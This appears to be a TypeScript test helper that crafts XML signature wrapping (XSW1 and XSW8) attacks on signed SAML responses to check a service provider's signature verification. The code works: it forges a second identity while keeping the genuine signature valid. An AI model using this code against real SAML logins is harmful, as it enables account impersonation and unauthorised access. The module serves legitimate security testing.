/**
 * XML signature wrapping (XSW) attacks on a genuine, signed SAMLResponse, for tests of the service
 * provider's signature checks (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012).
 * Each keeps the provider's signature and the element it covers intact — so a verifier that only asks
 * "does some signature in this document verify?" would accept — and puts a forged element, naming
 * another person, where the service provider reads the person from.
 */
import { parseDomFromString } from '@node-saml/node-saml/lib/xml.js';
import { randomBytes } from 'node:crypto';

const DS = 'http://www.w3.org/2000/09/xmldsig#';
export const FORGED_EMAIL = 'mallory@evil.example';

export type Wrapping =
  /** a Response signed at the message level: a forged Response around it, the signed one moved into the signature's ds:Object (XSW1) */
  | 'response'
  /** a signed assertion: a forged assertion in its place, the signed one moved into the signature's ds:Object (XSW8) */
  | 'assertion';

// the little of xmldom's DOM used here, typed structurally: the project's typecheck has no DOM library
interface XNode {
  nodeType: number;
  nodeValue: string | null;
  data?: string;
  localName?: string | null;
  childNodes?: ArrayLike<XNode> | null;
  parentNode: XNode | null;
}
interface El extends XNode {
  ownerDocument: XDoc;
  setAttribute(name: string, value: string): void;
  cloneNode(deep: boolean): El;
  appendChild(c: XNode): XNode;
  removeChild(c: XNode): XNode;
  replaceChild(n: XNode, old: XNode): XNode;
}
interface XDoc extends XNode {
  documentElement: El;
  createElementNS(ns: string, qname: string): El;
  replaceChild(n: XNode, old: XNode): XNode;
  toString(): string;
}
const childrenNamed = (node: El, local: string): El[] => Array.from(node.childNodes ?? []).filter((c): c is El => c.nodeType === 1 && c.localName === local);

/** Every text node holding `email` now holds the forged address. */
function forge(node: XNode, email: string): void {
  if (node.nodeType === 3 && node.nodeValue?.includes(email)) {
    // xmldom serializes a text node's `data`, which assigning nodeValue does not update
    node.data = node.nodeValue.split(email).join(FORGED_EMAIL);
  }
  for (const c of Array.from(node.childNodes ?? [])) forge(c, email);
}

/** `signed`'s forged twin (new ID, another person), carrying signed's signature with `signed` inside it. */
function wrap(signed: El, email: string): El {
  const forged = signed.cloneNode(true) as El;
  forged.setAttribute('ID', `_${randomBytes(16).toString('hex')}`);
  forge(forged, email);
  const signature = childrenNamed(forged, 'Signature')[0];
  if (!signature) throw new Error('the element to wrap carries no signature');
  const object = signed.ownerDocument.createElementNS(DS, 'ds:Object');
  // the genuine element without its (enveloped) signature: its digest is unchanged, as the enveloped-signature
  // transform leaves the signature out of it, so the reference still verifies against this copy
  const genuine = signed.cloneNode(true) as El;
  for (const s of childrenNamed(genuine, 'Signature')) genuine.removeChild(s);
  object.appendChild(genuine);
  signature.appendChild(object);
  return forged;
}

/** The base64 SAMLResponse `samlResponse` (plain, not encrypted) with the signed element wrapped. */
export async function wrapSignature(samlResponse: string, email: string, what: Wrapping): Promise<string> {
  const doc = (await parseDomFromString(Buffer.from(samlResponse, 'base64').toString('utf8'))) as unknown as XDoc;
  const response = doc.documentElement;
  if (what === 'response') {
    const forged = wrap(response, email);
    // the forged assertion is unsigned, as it was in the signed Response
    doc.replaceChild(forged, response);
  } else {
    const assertion = childrenNamed(response, 'Assertion')[0];
    if (!assertion) throw new Error('the response carries no plain assertion to wrap');
    response.replaceChild(wrap(assertion, email), assertion);
  }
  return Buffer.from(doc.toString()).toString('base64');
}
